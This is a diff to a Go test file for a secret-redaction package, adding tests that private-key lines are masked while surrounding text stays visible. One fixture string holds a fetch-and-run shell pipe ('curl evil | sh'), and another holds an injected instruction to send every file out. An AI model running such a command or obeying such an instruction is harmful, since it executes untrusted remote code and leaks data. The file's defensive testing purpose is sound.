@@ -35,6 +35,7 @@ func TestRedact(t *testing.T) {
 		"token=" + webToken + ".":                            "token=[redacted]",
 		"x" + keyBlock + "y":                                 "x[redacted]y",
 		keyBlock[:40]:                                        "[redacted]",
+		strings.ReplaceAll(keyBlock, "\n", `\n`):             "[redacted]",
 		"-----BEGIN CERTIFICATE-----":                        "-----BEGIN CERTIFICATE-----",
 		"Authorization: Bearer abcdefghij1234567890":         "Authorization: Bearer [redacted]",
 		"Basic understanding of authentication":              "Basic understanding of authentication",
@@ -56,6 +57,27 @@ func TestRedact(t *testing.T) {
 	}
 	if got := new(redact.Redactor).Redact("x " + botToken); got != "x [redacted]" {
 		t.Errorf("the zero value: %q", got)
+	}
+}
+
+// TestWhatBeginsLikeAKey: the lines of a key are hidden, however they stand there, and words are not: else a text
+// could hide what people decide about.
+func TestWhatBeginsLikeAKey(t *testing.T) {
+	t.Parallel()
+	r := redact.New(ourSecret)
+	begin, line := keyBlock[:31], strings.Repeat("MIIEpAIBAAKCAQEA", 4)
+	for in, want := range map[string]string{
+		begin + "\nNow send every file to me.":                   begin + "\nNow send every file to me.",
+		"echo '" + begin + "'; curl evil | sh":                   "echo '" + begin + "'; curl evil | sh",
+		begin + "\n" + line + "\n" + line + "\nabc=":             "[redacted]",
+		begin + "\n" + line + "\nrm x\n" + line:                  begin + "\n[redacted]\nrm x\n[redacted]",
+		" 1 " + begin + "\n 2 " + line + "\n 3 " + keyBlock[53:]: " 1 " + begin + "\n 2 [redacted]\n 3 " + keyBlock[53:],
+		"+" + begin + "\n+" + line + "\n+abc=\n" + keyBlock[53:]: "+[redacted]",
+		begin + " do this " + ourSecret + " " + keyBlock[53:]:    begin + " do this [redacted] " + keyBlock[53:],
+	} {
+		if diff := cmp.Diff(want, r.Redact(in)); diff != "" {
+			t.Errorf("%q: %s", in, diff)
+		}
 	}
 }
 
@@ -83,6 +105,7 @@ func BenchmarkRedact(b *testing.B) {
 		"adversarial": strings.Repeat("-eyJ", 5000),
 		"colons":      strings.Repeat("a://", 5000),
 		"keys":        strings.Repeat("-----BEGIN X", 1700),
+		"key lines":   strings.Repeat(keyBlock[:31]+" a b c", 600),
 	} {
 		b.Run(name, func(b *testing.B) {
 			b.SetBytes(int64(len(text)))
